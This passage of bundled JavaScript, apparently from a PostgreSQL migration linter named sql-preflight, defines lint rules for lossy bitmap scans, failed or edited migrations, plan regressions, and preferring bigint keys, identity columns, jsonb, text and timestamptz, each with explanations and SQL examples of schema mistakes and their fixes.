  "src/rules/lossy-bitmap-scan.ts"() {
    "use strict";
    init_rule();
    init_text2();
    init_walk();
    defaultOptions3 = { minLossyBlocks: 1, minRuntimeShare: 0.05 };
    lossy_bitmap_scan_default = definePlanRule({
      meta: {
        id: "lossy-bitmap-scan",
        category: "plan",
        severity: "notice",
        needsAnalyze: true,
        summary: "A bitmap heap scan outgrew work_mem and rechecked every row of the pages it made lossy.",
        why: 'A bitmap scan first collects the matching row positions from the index, then reads those table pages in order. The bitmap must fit in work_mem; when it does not, Postgres keeps only the page numbers for part of it ("lossy" blocks) and then has to check the condition on every row of those pages. The scan reads and discards rows it would otherwise never look at (Rows Removed by Index Recheck).',
        safeAlternative: "Raise work_mem for this query (`SET LOCAL work_mem = '16MB'` in its transaction) so the bitmap stays exact, or make the condition more selective with a better index (more columns, or a partial index) so fewer pages match.",
        defaultOptions: defaultOptions3,
        optionDocs: {
          minLossyBlocks: "Flag a scan with at least this many lossy heap blocks.",
          minRuntimeShare: "Only flag a scan that takes at least this share of the execution time."
        },
        examples: {
          existing: "CREATE TABLE readings (\n  id bigint PRIMARY KEY,\n  sensor int NOT NULL,\n  note text NOT NULL\n);\n-- Wide rows (about 3,100 pages), each sensor spread over the whole table.\nINSERT INTO readings SELECT g, g * 7919 % 100, repeat('x', 200) FROM generate_series(1, 100000) AS g;\nCREATE INDEX readings_sensor_idx ON readings (sensor);\nVACUUM ANALYZE readings;",
          bad: ["SET work_mem = '64kB';\nSELECT * FROM readings WHERE sensor < 10;"],
          good: ["SET work_mem = '4MB';\nSELECT * FROM readings WHERE sensor < 10;"]
        },
        references: [
          "https://www.postgresql.org/docs/current/runtime-config-resource.html#GUC-WORK-MEM",
          "https://www.postgresql.org/docs/current/indexes-bitmap-scans.html"
        ]
      },
      check(plan, context) {
        const { minLossyBlocks, minRuntimeShare } = context.options;
        for (const visit of context.nodes) {
          const { node } = visit;
          const lossy = node["Lossy Heap Blocks"] ?? 0;
          const exact = node["Exact Heap Blocks"] ?? 0;
          if (node["Node Type"] !== "Bitmap Heap Scan" || lossy < minLossyBlocks || exact === 0) continue;
          if (workShare(plan, visit, true) < minRuntimeShare) continue;
          const rechecked = (node["Rows Removed by Index Recheck"] ?? 0) * (node["Actual Loops"] ?? 1);
          const workMem = plan.Settings?.work_mem;
          context.report({
            node,
            message: `${nodeLabel(node)} kept ${formatCount(lossy)} of its ${formatCount(lossy + exact)} heap blocks as lossy page numbers because the bitmap did not fit in work_mem${workMem ? ` (${workMem})` : ""}, so it rechecked every row on them and discarded ${formatCount(rechecked)}.`,
            evidence: { lossyBlocks: lossy, exactBlocks: exact, rowsRemovedByRecheck: rechecked }
          });
        }
      }
    });
  }
});

// src/rules/migration-failed.ts
var migration_failed_default;
var init_migration_failed = __esm({
  "src/rules/migration-failed.ts"() {
    "use strict";
    init_rule();
    migration_failed_default = defineRule({
      meta: {
        id: "migration-failed",
        category: "trace",
        severity: "error",
        summary: "The migration fails when it runs on PostgreSQL.",
        why: "sql-preflight ran the migration on a throwaway database built from the existing migrations and PostgreSQL rejected it: the same error will stop the deploy. The statements after it were not run, so their checks on the database are missing.",
        safeAlternative: "Fix the statement at the reported position; the message is the one PostgreSQL gave.",
        examples: {
          existing: "CREATE TABLE orders (id bigint PRIMARY KEY);",
          bad: ["ALTER TABLE orders DROP COLUMN total;"],
          good: ["ALTER TABLE orders ADD COLUMN total numeric(12, 2);"]
        }
      },
      create: () => ({})
    });
  }
});

// src/rules/migration-layout.ts
var migration_layout_default;
var init_migration_layout = __esm({
  "src/rules/migration-layout.ts"() {
    "use strict";
    init_rule();
    migration_layout_default = defineRule({
      meta: {
        id: "migration-layout",
        category: "meta",
        severity: "warning",
        summary: "The migration tool would refuse, skip or misread this file.",
        why: "Each migration tool has its own file naming, markers and bookkeeping files (goose and dbmate markers, Flyway script configs, the drizzle journal). A file that breaks them fails at deploy time or runs differently from what the file suggests, so the analysis of it may not match what production runs.",
        safeAlternative: "Fix the file or folder as the message says, or set the folder's format and transaction mode in .sql-preflight.yml if it was detected wrongly.",
        examples: { bad: [], good: ["SELECT 1;"] }
      },
      create: () => ({})
    });
  }
});

// src/rules/modified-migration.ts
var modified_migration_default;
var init_modified_migration = __esm({
  "src/rules/modified-migration.ts"() {
    "use strict";
    init_rule();
    modified_migration_default = defineRule({
      meta: {
        id: "modified-migration",
        category: "trace",
        severity: "warning",
        summary: "A migration that already existed at the base was edited.",
        why: "Migration tools run each migration once and record it; databases that already applied this file will never run the edit, so production and new environments drift apart. sql-preflight replays the base version of the file and lints the edited one.",
        safeAlternative: "Leave applied migrations as they are and put the change in a new migration.",
        examples: { bad: [], good: [] }
      },
      create: () => ({})
    });
  }
});

// src/explain/compare.ts
function comparePlans(base, changed, options = {}) {
  const { costIncrease, trivialCost } = { ...DEFAULT_COMPARE_OPTIONS, ...options };
  const baseCost = base.Plan["Total Cost"] ?? 0;
  const changedCost = changed.Plan["Total Cost"] ?? 0;
  if (changedCost < trivialCost || changedCost <= baseCost) return [];
  const increase = baseCost > 0 ? (changedCost - baseCost) / baseCost : Number.POSITIVE_INFINITY;
  const baseScans = scansByRelation(base);
  const changedScans = scansByRelation(changed);
  const lost = [];
  for (const [key, before] of baseScans) {
    const after = changedScans.get(key) ?? [];
    const indexed = before.find((v) => INDEX_ACCESS.has(v.node["Node Type"]));
    const seq = after.find((v) => v.node["Node Type"] === "Seq Scan");
    if (!indexed || !seq || after.some((v) => INDEX_ACCESS.has(v.node["Node Type"]))) continue;
    const relation = relationName(seq.node);
    lost.push({
      kind: "index-scan-lost",
      message: `${nodeLabel(indexed.node)} became ${nodeLabel(seq.node)}: the query's estimated cost rises from ${formatCost(baseCost)} to ${formatCost(changedCost)}${formatRise(increase)}.`,
      evidence: {
        base: { cost: baseCost, lines: excerpt(indexed) },
        changed: { cost: changedCost, lines: excerpt(seq) },
        relation,
        increase
      }
    });
  }
  if (lost.length || increase <= costIncrease) return lost;
  const differing = [];
  for (const [key, after] of changedScans) {
    const before = baseScans.get(key) ?? [];
    after.forEach((visit, i) => {
      const was = before[i];
      if (!was || nodeLabel(was.node) !== nodeLabel(visit.node) || nodeCost(visit) > nodeCost(was) * (1 + costIncrease)) {
        differing.push({ before: was, after: visit });
      }
    });
  }
  const changes = differing.map(
    ({ before, after }) => before && nodeLabel(before.node) !== nodeLabel(after.node) ? `${nodeLabel(before.node)} became ${nodeLabel(after.node)}` : `${nodeLabel(after.node)} costs ${formatCost(nodeCost(after))}${before ? ` (was ${formatCost(nodeCost(before))})` : ""}`
  );
  const relations = [...new Set(differing.map((d) => relationName(d.after.node)))];
  return [
    {
      kind: "cost-increase",
      message: `The query's estimated cost rises from ${formatCost(baseCost)} to ${formatCost(changedCost)}${formatRise(increase)}${changes.length ? `: ${changes.join("; ")}` : ""}.`,
      evidence: {
        base: { cost: baseCost, lines: differing.length ? differing.flatMap((d) => d.before ? excerpt(d.before) : []) : planExcerpt(base.Plan, []) },
        changed: { cost: changedCost, lines: differing.length ? differing.flatMap((d) => excerpt(d.after)) : planExcerpt(changed.Plan, []) },
        ...relations.length === 1 ? { relation: relations[0] } : {},
        increase
      }
    }
  ];
}
function nodeCost(visit) {
  return visit.node["Total Cost"] ?? 0;
}
function scansByRelation(explain) {
  const scans = /* @__PURE__ */ new Map();
  for (const visit of walkPlan(explain.Plan)) {
    const relation = relationName(visit.node);
    if (relation === void 0 || visit.node["Node Type"] === "ModifyTable") continue;
    const key = `${relation} ${visit.node.Alias ?? ""}`;
    scans.set(key, [...scans.get(key) ?? [], visit]);
  }
  return scans;
}
function excerpt(visit) {
  const bitmaps = visit.node["Node Type"] === "Bitmap Heap Scan" ? bitmapIndexScans(visit.node) : [];
  return planExcerpt(visit.node, bitmaps);
}
function bitmapIndexScans(node) {
  return (node.Plans ?? []).flatMap((child) => child["Node Type"] === "Bitmap Index Scan" ? [child] : bitmapIndexScans(child));
}
function readMessage(message) {
  const text2 = message.trim();
  let m;
  if (m = /^column "(.+)" of relation "(.+)" does not exist/.exec(text2)) return { kind: "column", name: m[1], relation: m[2] };
  if (m = /^column "(.+)" does not exist/.exec(text2)) return { kind: "column", name: m[1] };
  if (m = /^column (\S+) does not exist/.exec(text2)) return { kind: "column", name: lastPart(m[1]) };
  if (m = /^column "(.+)" is of type (.+) but expression is of type (.+)$/.exec(text2)) return { kind: "types", types: [m[2], m[3]], column: m[1] };
  if (m = /^relation "(.+)" does not exist/.exec(text2)) {
    const dot = m[1].lastIndexOf(".");
    return dot < 0 ? { kind: "relation", name: m[1] } : { kind: "relation", name: m[1].slice(dot + 1), schema: m[1].slice(0, dot) };
  }
  if (m = /^function (\S+)\((.*)\) does not exist/.exec(text2)) {
    return { kind: "function", name: lastPart(m[1]), types: m[2] ? m[2].split(", ") : [] };
  }
  if (m = /^type "(.+)" does not exist/.exec(text2)) return { kind: "type", name: lastPart(m[1]) };
  if (m = /^schema "(.+)" does not exist/.exec(text2)) return { kind: "schema", name: m[1] };
  if (m = /^operator does not exist: (.+)$/.exec(text2)) return { kind: "types", types: operandTypes(m[1]) };
  if (m = /^invalid input syntax for type (.+?):/.exec(text2)) return { kind: "types", types: [m[1]] };
  return void 0;
}
function operandTypes(signature) {
  const [left, , right] = /^(?:(.+) )?([-+*/<>=~!@#%^&|`?]+) (.+)$/.exec(signature)?.slice(1) ?? [];
  return [left, right].filter((t) => !!t).map((t) => t.replace(/\[\]$/, ""));
}
function lastPart(name) {
  return name.slice(name.lastIndexOf(".") + 1);
}
function findBreakingStatement(message, statements) {
  const missing = readMessage(message);
  if (!missing) return void 0;
  const found = statements.find((s) => breaks(s.stmt, missing)) ?? // A function that still exists no longer takes the arguments it is given: a column's type changed.
  (missing.kind === "function" ? statements.find((s) => breaks(s.stmt, { kind: "types", types: missing.types })) : void 0);
  return found && { file: found.file, index: found.index };
}
function breaks(stmt, missing) {
  const [type, node] = Object.entries(stmt ?? {})[0] ?? [];
  if (!type || typeof node !== "object" || node === null) return false;
  const n = node;
  switch (missing.kind) {
    case "column":
      if (missing.relation !== void 0 && n.relation?.relname !== missing.relation) return false;
      if (type === "AlterTableStmt") return commands(n).some((c) => c.subtype === "AT_DropColumn" && c.name === missing.name);
      return type === "RenameStmt" && n.renameType === "OBJECT_COLUMN" && n.subname === missing.name;
    case "relation":
      if (type === "DropStmt" && RELATION_KINDS.has(n.removeType)) {
        return objectNames(n).some((names3) => names3.at(-1) === missing.name && (missing.schema === void 0 || names3.at(-2) === missing.schema));
      }
      if (type === "RenameStmt" && RELATION_KINDS.has(n.renameType) || type === "AlterObjectSchemaStmt" && RELATION_KINDS.has(n.objectType)) {
        return isRelation(n.relation, missing.name, missing.schema);
      }
      return missing.schema !== void 0 && breaks(stmt, { kind: "schema", name: missing.schema });
    case "function":
      if (type === "DropStmt" && FUNCTION_KINDS.has(n.removeType)) return objectNames(n).some((names3) => names3.at(-1) === missing.name);
      if (type === "RenameStmt" && FUNCTION_KINDS.has(n.renameType) || type === "AlterObjectSchemaStmt" && FUNCTION_KINDS.has(n.objectType)) {
        return stringNames(n.object?.ObjectWithArgs?.objname).at(-1) === missing.name;
      }
      return false;
    case "type":
      if (type === "DropStmt" && TYPE_KINDS.has(n.removeType)) return objectNames(n).some((names3) => names3.at(-1) === missing.name);
      if (type === "RenameStmt" && TYPE_KINDS.has(n.renameType) || type === "AlterObjectSchemaStmt" && TYPE_KINDS.has(n.objectType)) {
        return stringNames(n.object?.List?.items).at(-1) === missing.name;
      }
      return false;
    case "schema":
      if (type === "DropStmt" && n.removeType === "OBJECT_SCHEMA") return objectNames(n).some((names3) => names3[0] === missing.name);
      return type === "RenameStmt" && n.renameType === "OBJECT_SCHEMA" && n.subname === missing.name;
    case "types":
      return retypes(type, n, missing);
  }
}
function retypes(type, n, missing) {
  if (type !== "AlterTableStmt") return false;
  return commands(n).some(
    (c) => c.subtype === "AT_AlterColumnType" && (missing.column === void 0 || c.name === missing.column) && missing.types.includes(typeDisplayName(stringNames(c.def?.ColumnDef?.typeName?.names)))
  );
}
function commands(n) {
  return (n.cmds ?? []).map((c) => c.AlterTableCmd ?? {});
}
function isRelation(relation, name, schema) {
  return relation?.relname === name && (schema === void 0 || relation.schemaname === schema);
}
function objectNames(n) {
  return (n.objects ?? []).map(
    (o) => stringNames(o.List?.items ?? o.TypeName?.names ?? o.ObjectWithArgs?.objname ?? (o.String ? [o] : []))
  );
}
function stringNames(items) {
  return Array.isArray(items) ? items.map((i) => i.String?.sval).filter((s) => typeof s === "string") : [];
}
function typeDisplayName(names3) {
  const name = names3.at(-1) ?? "";
  return BUILTIN_TYPE_NAMES[name] ?? name;
}
var DEFAULT_COMPARE_OPTIONS, INDEX_ACCESS, RELATION_KINDS, FUNCTION_KINDS, TYPE_KINDS, BUILTIN_TYPE_NAMES;
var init_compare = __esm({
  "src/explain/compare.ts"() {
    "use strict";
    init_text2();
    init_walk();
    DEFAULT_COMPARE_OPTIONS = { costIncrease: 0.1, trivialCost: 10 };
    INDEX_ACCESS = /* @__PURE__ */ new Set(["Index Scan", "Index Only Scan", "Bitmap Heap Scan"]);
    RELATION_KINDS = /* @__PURE__ */ new Set(["OBJECT_TABLE", "OBJECT_VIEW", "OBJECT_MATVIEW", "OBJECT_FOREIGN_TABLE", "OBJECT_SEQUENCE"]);
    FUNCTION_KINDS = /* @__PURE__ */ new Set(["OBJECT_FUNCTION", "OBJECT_PROCEDURE", "OBJECT_ROUTINE", "OBJECT_AGGREGATE"]);
    TYPE_KINDS = /* @__PURE__ */ new Set(["OBJECT_TYPE", "OBJECT_DOMAIN"]);
    BUILTIN_TYPE_NAMES = {
      int2: "smallint",
      int4: "integer",
      int8: "bigint",
      float4: "real",
      float8: "double precision",
      bool: "boolean",
      varchar: "character varying",
      bpchar: "character",
      timestamp: "timestamp without time zone",
      timestamptz: "timestamp with time zone",
      time: "time without time zone",
      timetz: "time with time zone",
      varbit: "bit varying"
    };
  }
});

// src/rules/plan-regression.ts
var plan_regression_default;
var init_plan_regression = __esm({
  "src/rules/plan-regression.ts"() {
    "use strict";
    init_rule();
    init_compare();
    plan_regression_default = defineRule({
      meta: {
        id: "plan-regression",
        category: "plan",
        severity: "warning",
        summary: "A query's plan gets worse on the schema after the change: an index scan is lost or the estimated cost rises.",
        why: "The change removes or alters something the planner relied on: a dropped or rebuilt index, a column whose new type no longer matches the index or the comparison, statistics that a rewrite threw away. A query that found its rows through an index now reads the whole table, on every call, from the moment the migration commits; on a large table that is a slow query for every user and more load on the server, and it does not show up in review because the query itself did not change.",
        safeAlternative: "Keep an index the query needs, or create its replacement (CREATE INDEX CONCURRENTLY) in an earlier migration than the one that drops the old one. After a change that rewrites a table (ALTER COLUMN ... TYPE), run ANALYZE on it in the migration so the planner has statistics again. If the new plan is expected, raise `costIncrease` or ignore the finding.",
        postgres: {
          note: "Costs are the planner's estimates and their scale differs between major versions; both plans come from the same server and the same seeded data, so they compare with each other, not with production figures."
        },
        defaultOptions: DEFAULT_COMPARE_OPTIONS,
        optionDocs: {
          costIncrease: "Report a rise of the query's total estimated cost above this share of the cost before the change.",
          trivialCost: "Never report a plan whose total estimated cost after the change is below this: it reads a handful of pages whatever the change did (RegreSQL uses the same gate)."
        },
        examples: {
          existing: "CREATE TABLE orders (\n  id bigint PRIMARY KEY,\n  customer_id bigint NOT NULL,\n  total numeric(12, 2) NOT NULL\n);\nCREATE INDEX orders_customer_id_idx ON orders (customer_id);\nINSERT INTO orders SELECT g, 1 + g % 2000, g % 500 + 0.99 FROM generate_series(1, 100000) AS g;\nVACUUM ANALYZE orders;\n-- queries/orders.sql:\n-- SELECT id, total FROM orders WHERE customer_id = $1;",
          bad: ["DROP INDEX CONCURRENTLY orders_customer_id_idx;"],
          good: [
            "ALTER TABLE orders ADD COLUMN note text;",
            "CREATE INDEX CONCURRENTLY orders_customer_id_total_idx ON orders (customer_id) INCLUDE (total);\nDROP INDEX CONCURRENTLY orders_customer_id_idx;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/using-explain.html",
          "https://www.postgresql.org/docs/current/planner-stats.html",
          "https://www.postgresql.org/docs/current/sql-dropindex.html"
        ]
      },
      create: () => ({})
    });
  }
});

// src/rules/prefer-bigint-keys.ts
function roleIn(constraint, column, inline) {
  if (constraint.contype === "CONSTR_PRIMARY" && (inline || names(constraint.keys).includes(column))) return "a primary key";
  if (constraint.contype === "CONSTR_FOREIGN" && (inline || names(constraint.fk_attrs).includes(column))) return "a foreign key";
  if (constraint.contype === "CONSTR_IDENTITY" && inline) return "an identity column";
  return void 0;
}
function alterTablesOf(file) {
  let byTable = alterTables.get(file);
  if (!byTable) {
    byTable = /* @__PURE__ */ new Map();
    for (const statement of file.statements) {
      if (statement.type !== "AlterTableStmt") continue;
      const node = statement.node;
      const key = relationKey(node.relation);
      if (key === void 0) continue;
      const list = byTable.get(key) ?? [];
      list.push({ statement, node });
      byTable.set(key, list);
    }
    alterTables.set(file, byTable);
  }
  return byTable;
}
function keyRole(context, statement, column) {
  for (const c of column.constraints) {
    const role = roleIn(c, column.name, true);
    if (role) return role;
  }
  for (const c of column.tableConstraints) {
    const role = roleIn(c, column.name, false);
    if (role) return role;
  }
  if (column.kind === "alter-type") {
    const known = context.catalog.table(column.relation)?.constraints.find((c) => (c.kind === "primary-key" || c.kind === "foreign-key") && c.columns.includes(column.name));
    if (known) return known.kind === "primary-key" ? "a primary key" : "a foreign key";
  }
  const key = relationKey(column.relation);
  for (const later of (key === void 0 ? void 0 : alterTablesOf(context.file).get(key)) ?? []) {
    if (later.statement.index <= statement.index) continue;
    for (const item of later.node.cmds ?? []) {
      const cmd = item.AlterTableCmd;
      if (cmd?.subtype === "AT_AddIdentity" && cmd.name === column.name) return "an identity column";
      const role = cmd?.subtype === "AT_AddConstraint" && cmd.def?.Constraint ? roleIn(cmd.def.Constraint, column.name, false) : void 0;
      if (role) return role;
    }
  }
  return void 0;
}
var SMALLINT, INTEGER, NARROW_TYPES, NARROW_SERIALS, names, alterTables, prefer_bigint_keys_default;
var init_prefer_bigint_keys = __esm({
  "src/rules/prefer-bigint-keys.ts"() {
    "use strict";
    init_ast();
    init_catalog();
    init_rule();
    init_statements();
    SMALLINT = { max: "32,767", wider: "bigint" };
    INTEGER = { max: "2,147,483,647", wider: "bigint" };
    NARROW_TYPES = /* @__PURE__ */ new Map([["int2", SMALLINT], ["int4", INTEGER]]);
    NARROW_SERIALS = /* @__PURE__ */ new Map([
      ["smallserial", { ...SMALLINT, wider: "bigserial" }],
      ["serial2", { ...SMALLINT, wider: "bigserial" }],
      ["serial", { ...INTEGER, wider: "bigserial" }],
      ["serial4", { ...INTEGER, wider: "bigserial" }]
    ]);
    names = (nodes) => (nodes ?? []).map(constantText);
    alterTables = /* @__PURE__ */ new WeakMap();
    prefer_bigint_keys_default = defineRule({
      meta: {
        id: "prefer-bigint-keys",
        category: "types",
        severity: "notice",
        summary: "Use bigint for primary keys, foreign keys and identity columns.",
        why: "integer stops at 2,147,483,647 and smallint at 32,767. A key fed by a sequence reaches that after enough inserts (rolled-back and cached values are skipped too), and from then on every insert fails. Widening the column then is an ALTER COLUMN TYPE bigint, which rewrites the table and all its indexes under an ACCESS EXCLUSIVE lock, blocking reads and writes for as long as the rewrite takes, and has to be repeated for every foreign key column that references it. bigint costs 4 more bytes per value.",
        safeAlternative: "Declare key columns as bigint (identity columns as bigint GENERATED BY DEFAULT AS IDENTITY, serial as bigserial), and foreign key columns with the same type as the key they reference. Integer columns that are not keys are fine.",
        examples: {
          bad: [
            "CREATE TABLE orders (id integer GENERATED ALWAYS AS IDENTITY PRIMARY KEY);",
            "CREATE TABLE lines (id bigint PRIMARY KEY, order_id int REFERENCES orders (id));"
          ],
          good: [
            "CREATE TABLE orders (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, quantity integer NOT NULL);",
            "CREATE TABLE lines (id bigint PRIMARY KEY, order_id bigint REFERENCES orders (id), position smallint);"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/datatype-numeric.html#DATATYPE-INT",
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-NOTES"
        ]
      },
      create(context) {
        return {
          statement(statement) {
            for (const column of columnDefinitions(statement)) {
              const typeName = column.def.typeName;
              if (typeName.arrayBounds?.length) continue;
              const unqualified = typeName.names?.length === 1 ? constantText(typeName.names[0]) : void 0;
              const serial = unqualified === void 0 ? void 0 : NARROW_SERIALS.get(unqualified);
              const narrow = serial ?? NARROW_TYPES.get(builtinTypeName(typeName) ?? "");
              if (!narrow) continue;
              const role = keyRole(context, statement, column) ?? (serial ? "a sequence-generated column" : void 0);
              if (!role) continue;
              const span = typeNameSpan(statement, typeName);
              if (!span) continue;
              const table = relationName2(column.relation);
              context.report(statement, {
                range: span.range,
                message: `${table}.${column.name} is ${role} of type ${context.file.lines.slice(span.range)}, which stops at ${narrow.max}; widening it later rewrites ${table} and its indexes under an ACCESS EXCLUSIVE lock.`,
                fix: { description: `Use ${narrow.wider}`, edits: [{ range: span.range, text: narrow.wider }] }
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/prefer-identity.ts
function defaultChangedLater(statements, after, column) {
  const key = relationKey(column.relation);
  return statements.slice(after + 1).some((s) => {
    const node = s.node;
    if (s.type !== "AlterTableStmt" || relationKey(node.relation) !== key) return false;
    return (node.cmds ?? []).some((c) => c.AlterTableCmd?.subtype === "AT_ColumnDefault" && c.AlterTableCmd.name === column.name);
  });
}
var SERIAL_TYPES3, prefer_identity_default;
var init_prefer_identity = __esm({
  "src/rules/prefer-identity.ts"() {
    "use strict";
    init_ast();
    init_catalog();
    init_rule();
    init_statements();
    SERIAL_TYPES3 = /* @__PURE__ */ new Map([
      ["smallserial", "smallint"],
      ["serial2", "smallint"],
      ["serial", "integer"],
      ["serial4", "integer"],
      ["bigserial", "bigint"],
      ["serial8", "bigint"]
    ]);
    prefer_identity_default = defineRule({
      meta: {
        id: "prefer-identity",
        category: "types",
        severity: "notice",
        summary: "Use an identity column instead of serial.",
        why: "serial is not a type but shorthand for an integer column with a DEFAULT nextval() on a separate sequence. The sequence keeps its own privileges, so a role with INSERT on the table still fails until it is granted USAGE on the sequence; CREATE TABLE ... LIKE ... INCLUDING DEFAULTS copies a default that draws from the original table's sequence; and the default can be dropped or replaced while the sequence stays behind. An identity column (SQL standard, Postgres 10+) ties the sequence to the column: inserts need no sequence grant, and the column's generation can only be changed through identity commands.",
        safeAlternative: "Declare the column as bigint GENERATED BY DEFAULT AS IDENTITY (or the same integer width as the serial type). BY DEFAULT still accepts explicit values, as serial did; GENERATED ALWAYS rejects them unless the INSERT says OVERRIDING SYSTEM VALUE.",
        postgres: { since: 10, note: "Identity columns exist since Postgres 10." },
        examples: {
          bad: ["CREATE TABLE orders (id bigserial PRIMARY KEY, total numeric NOT NULL);"],
          good: ["CREATE TABLE orders (id bigint GENERATED BY DEFAULT AS IDENTITY PRIMARY KEY, total numeric NOT NULL);"]
        },
        references: [
          "https://www.postgresql.org/docs/current/datatype-numeric.html#DATATYPE-SERIAL",
          "https://www.postgresql.org/docs/current/ddl-identity-columns.html",
          "https://www.postgresql.org/docs/current/sql-createtable.html"
        ]
      },
      create(context) {
        return {
          statement(statement) {
            for (const column of columnDefinitions(statement)) {
              const names3 = column.def.typeName.names ?? [];
              const integer2 = names3.length === 1 ? SERIAL_TYPES3.get(constantText(names3[0]) ?? "") : void 0;
              if (!integer2 || column.kind === "alter-type") continue;
              const span = typeNameSpan(statement, column.def.typeName);
              if (!span) continue;
              const written = context.file.lines.slice(span.range);
              const identity = `${integer2} GENERATED BY DEFAULT AS IDENTITY`;
              const blocked = defaultChangedLater(context.file.statements, statement.index, column);
              context.report(statement, {
                range: span.range,
                message: `${relationName2(column.relation)}.${column.name} is ${written}: its values come from a separate sequence behind a plain DEFAULT, which needs its own grants and can be dropped or shared apart from the column.`,
                help: blocked ? `Use ${identity}, and change the later ALTER COLUMN ${column.name} SET/DROP DEFAULT into the identity commands (SET GENERATED, DROP IDENTITY): Postgres rejects SET DEFAULT and DROP DEFAULT on an identity column.` : void 0,
                fix: blocked ? void 0 : { description: `Use ${identity}`, edits: [{ range: span.range, text: identity }] }
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/prefer-jsonb.ts
var prefer_jsonb_default;
var init_prefer_jsonb = __esm({
  "src/rules/prefer-jsonb.ts"() {
    "use strict";
    init_ast();
    init_rule();
    prefer_jsonb_default = defineRule({
      meta: {
        id: "prefer-jsonb",
        category: "types",
        severity: "notice",
        summary: "Store JSON documents as jsonb rather than json.",
        why: "json keeps an exact copy of the input text, so every function or operator that looks inside a value parses it again. json has no equality operator, which rules out DISTINCT, GROUP BY, UNIQUE and comparisons on the column, and its contents cannot be indexed with GIN for containment or key-existence queries. jsonb stores the parsed form: slightly slower to write, much faster to read, comparable and indexable.",
        safeAlternative: "Use jsonb. Keep json only when the exact text must survive: jsonb does not preserve whitespace or the order of object keys, and keeps only the last value of a duplicated key.",
        examples: {
          bad: ["CREATE TABLE webhooks (id bigint PRIMARY KEY, payload json NOT NULL);"],
          good: ["CREATE TABLE webhooks (id bigint PRIMARY KEY, payload jsonb NOT NULL);"]
        },
        references: ["https://www.postgresql.org/docs/current/datatype-json.html"]
      },
      create(context) {
        return {
          statement(statement) {
            for (const column of columnDefinitions(statement)) {
              if (builtinTypeName(column.def.typeName) !== "json") continue;
              const span = typeNameSpan(statement, column.def.typeName);
              if (!span) continue;
              context.report(statement, {
                range: span.range,
                message: `${relationName2(column.relation)}.${column.name} is json: every read re-parses the stored text, and the column can be neither compared for equality nor GIN-indexed.`,
                // json -> jsonb is an assignment cast, so defaults, generated expressions and USING clauses written for json still fit.
                fix: {
                  description: "Use jsonb (it does not keep key order, duplicate keys or whitespace)",
                  edits: [{ range: span.base, text: "jsonb" }]
                }
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/prefer-text.ts
var prefer_text_default;
var init_prefer_text = __esm({
  "src/rules/prefer-text.ts"() {
    "use strict";
    init_ast();
    init_rule();
    init_statements();
    prefer_text_default = defineRule({
      meta: {
        id: "prefer-text",
        category: "types",
        severity: "notice",
        summary: "Use text (with a CHECK constraint if a limit is needed) instead of varchar(n).",
        why: "character varying(n) is stored exactly like text; the n only adds a length check, and the docs state there is no performance difference between the types. Because that check lives in the type, changing it is an ALTER COLUMN TYPE under an ACCESS EXCLUSIVE lock: since Postgres 9.2, raising or removing the limit only updates the catalog, but lowering it, or adding a limit to a text column, rewrites the table and its indexes while reads and writes wait. A CHECK constraint on a text column can be changed without either: add the new one NOT VALID, validate it while reads and writes go on, then drop the old one.",
        safeAlternative: "Declare the column as text. If the length must be limited, say so with CHECK (char_length(column) <= n), which is just as strict and can later be replaced without a rewrite. Plain varchar without a length is the same as text.",
        postgres: { note: "Before Postgres 9.2 raising a varchar limit rewrote the table too; since then only lowering or adding one does." },
        examples: {
          bad: ["CREATE TABLE users (id bigint PRIMARY KEY, email varchar(255) NOT NULL);"],
          good: [
            "CREATE TABLE users (id bigint PRIMARY KEY, email text NOT NULL CHECK (char_length(email) <= 255));",
            "CREATE TABLE notes (id bigint PRIMARY KEY, body varchar);"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/datatype-character.html",
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-NOTES",
          "https://www.postgresql.org/docs/release/9.2.0/"
        ]
      },
      create(context) {
        return {
          statement(statement) {
            for (const column of columnDefinitions(statement)) {
              const typeName = column.def.typeName;
              if (builtinTypeName(typeName) !== "varchar" || !typeName.typmods?.length) continue;
              const span = typeNameSpan(statement, typeName);
              if (!span) continue;
              const table = relationName2(column.relation);
              const limit = constantText(typeName.typmods[0]);
              const nameRange = tokenRangeAt(statement, column.def.location);
              const name = nameRange ? context.file.lines.slice(nameRange) : quoteIdentifier(column.name);
              const check = `CHECK (char_length(${name}) <= ${limit})`;
              const array = (typeName.arrayBounds?.length ?? 0) > 0;
              const newColumn = column.kind === "create-table" || column.kind === "add-column" && context.isNewTable(column.relation);
              const constraint = quoteIdentifier(`${column.relation?.relname}_${column.name}_check`);
              const separately = `add the limit separately: ALTER TABLE ${table} ADD CONSTRAINT ${constraint} ${check} NOT VALID; then ALTER TABLE ${table} VALIDATE CONSTRAINT ${constraint}; (validation lets reads and writes continue).`;
              let help2;
              if (!array && column.kind === "alter-type") {
                help2 = `Change the column to text instead (from varchar that needs no rewrite) and, if the limit is needed, ${separately}`;
              } else if (!array && !newColumn) {
                help2 = `Add the column as text and, if the limit is needed, ${separately}`;
              }
              context.report(statement, {
                range: span.range,
                message: `${table}.${column.name} is ${context.file.lines.slice(span.range)}: the length limit is a constraint hidden in the type, and lowering it later rewrites ${table} under an ACCESS EXCLUSIVE lock.`,
                help: help2,
                fix: newColumn && !array ? { description: `Use text ${check}`, edits: [{ range: span.range, text: `text ${check}` }] } : void 0
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/prefer-timestamptz.ts
function isCurrentTime(expr) {
  const node = expr;
  if (node.SQLValueFunction) return CURRENT_TIME_VALUES.has(node.SQLValueFunction.op ?? "");
  const name = node.FuncCall?.funcname?.map(constantText).at(-1);
  return !!name && CURRENT_TIME_FUNCTIONS.has(name) && !node.FuncCall?.args?.length;
}
var CURRENT_TIME_FUNCTIONS, CURRENT_TIME_VALUES, prefer_timestamptz_default;
var init_prefer_timestamptz = __esm({
  "src/rules/prefer-timestamptz.ts"() {
    "use strict";
    init_ast();
    init_rule();
    init_statements();
    CURRENT_TIME_FUNCTIONS = /* @__PURE__ */ new Set(["now", "transaction_timestamp", "statement_timestamp", "clock_timestamp"]);
